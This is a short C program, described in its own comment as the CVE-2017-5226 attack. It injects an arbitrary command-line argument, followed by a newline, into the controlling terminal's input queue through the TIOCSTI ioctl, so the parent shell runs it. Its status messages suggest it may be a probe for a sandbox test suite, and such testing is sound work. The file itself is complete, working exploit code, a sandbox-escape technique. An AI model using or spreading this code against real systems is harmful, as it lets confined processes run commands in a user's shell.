/* The CVE-2017-5226 attack: push argv[1] and a newline into the input queue
 * of the first terminal among fds 0-2 with TIOCSTI, one byte per ioctl, so
 * that whoever reads that terminal next (the caller's shell) runs it.
 * Prints on stdout "tiocsti fd N: injected", "tiocsti fd N: errno E" or
 * "tiocsti: no terminal". */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	for (int fd = 0; fd <= 2; fd++) {
		if (!isatty(fd))
			continue;
		size_t len = strlen(argv[1]);
		for (size_t i = 0; i <= len; i++) {
			char c = i < len ? argv[1][i] : '\n';
			if (ioctl(fd, TIOCSTI, &c) < 0) {
				printf("tiocsti fd %d: errno %d\n", fd, errno);
				return 1;
			}
		}
		printf("tiocsti fd %d: injected\n", fd);
		return 0;
	}
	printf("tiocsti: no terminal\n");
	return 1;
}
